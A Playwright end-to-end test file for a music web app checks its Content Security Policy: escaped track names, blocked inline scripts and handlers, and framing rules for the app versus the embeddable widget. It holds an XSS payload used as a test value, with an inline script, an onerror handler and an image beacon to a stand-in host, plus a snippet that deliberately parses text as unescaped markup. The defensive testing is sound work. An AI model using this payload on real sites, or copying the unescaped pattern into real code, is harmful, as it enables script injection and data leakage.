"""The page policy as a visitor meets it: other people's text that would run or beacon, were it ever
rendered as markup, is blocked and reported; the full app cannot be framed by another site, the
widget can. (Every other e2e test fails on any violation: page_watch.py.)"""

import time

from playwright.sync_api import Browser, Page, expect

from tests.e2e.conftest import BOOT_TIMEOUT_MS
from tests.e2e.host_site import HostSite
from tests.e2e.openwhyd_steps import DEMO_AUDIO, post_tracks
from tests.e2e.page_watch import PageWatch, watch, watch_of
from tests.e2e.steps import open_location

BEACON = "https://beacon.example/collect?who=admin"
HOSTILE = (
    '<script>window.pwned = "inline script"</script>'
    f'<img src="{BEACON}" alt="">'
    '<img src="data:," alt="" onerror="window.pwned = \'event handler\'">'
)
"""A track name that tries an inline script, an off-origin image beacon and an inline handler."""
ESCAPE_FAILS = """name => {
  const row = document.querySelector(".track-name");
  row.append(document.createRange().createContextualFragment(name));
}"""
"""What a template that forgot to escape would do: the name parsed as markup, scripts and all."""


def violations_when_settled(watch: PageWatch, count: int) -> tuple[list[dict], list[str]]:
    """The violations once `count` of them were reported (they arrive after the page's task)."""
    deadline = time.monotonic() + 10
    while len(watch.violations) < count and time.monotonic() < deadline:
        watch.page.wait_for_timeout(100)
    return watch.taken_violations()


def test_a_hostile_track_name_is_text_and_blocked_were_it_ever_markup(fresh_app, live_server: str) -> None:
    (track,) = post_tracks(live_server, "Hostile", [(f"/fi/{DEMO_AUDIO}c-major-chord.wav", HOSTILE)])
    page: Page = fresh_app()
    open_location(page, f"#/u/admin/playlists/{track.playlist.id}")
    name = page.locator(".track-name").first
    expect(name).to_have_text(HOSTILE)
    assert watch_of(page).taken_violations() == ([], []), "escaped, it asks nothing of the policy"

    page.evaluate(ESCAPE_FAILS, HOSTILE)
    events, reports = violations_when_settled(watch_of(page), 3)
    assert page.evaluate("window.pwned") is None, "nothing of it ran"
    blocked = sorted((event["directive"], event["blocked"]) for event in events)
    assert blocked == [("img-src", BEACON), ("script-src-attr", "inline"), ("script-src-elem", "inline")]
    assert len(reports) == 3, reports
    assert not watch_of(page).outside_requests, "the beacon never left: blocked before the network"


def test_another_site_can_frame_the_widget_but_not_the_app(
    browser: Browser, live_server: str, host_site: HostSite
) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, service_workers="block")
    page = watch(context.new_page(), live_server, host_site.origin)
    blog = (
        "<!doctype html><html lang='en'><title>A music blog</title><h1>A music blog</h1>"
        f"<iframe title='Tonearm' src='{live_server}/#/' width='800' height='400'></iframe>"
        f"<iframe title='Tonearm player' src='{live_server}/embed.html?u=admin&amp;pl=0'"
        " width='600' height='400' allow='autoplay'></iframe></html>"
    )
    try:
        page.goto(host_site.page("/music-blog", blog))
        widget = page.frame_locator("iframe[title='Tonearm player']")
        expect(widget.locator("html")).to_have_attribute("data-ready", "true", timeout=BOOT_TIMEOUT_MS)
        expect(widget.get_by_role("heading", level=1)).to_have_text("Offline tones")

        app = page.frame_locator("iframe[title='Tonearm']")
        expect(app.locator("#app")).to_have_count(0)
        events, reports = watch_of(page).taken_violations()
        refused = [report for report in reports if "frame-ancestors 'self'" in report]
        assert refused and live_server in refused[0], reports
        assert events == [], "the refusal is the framed page's, not reported to the host"
    finally:
        context.close()
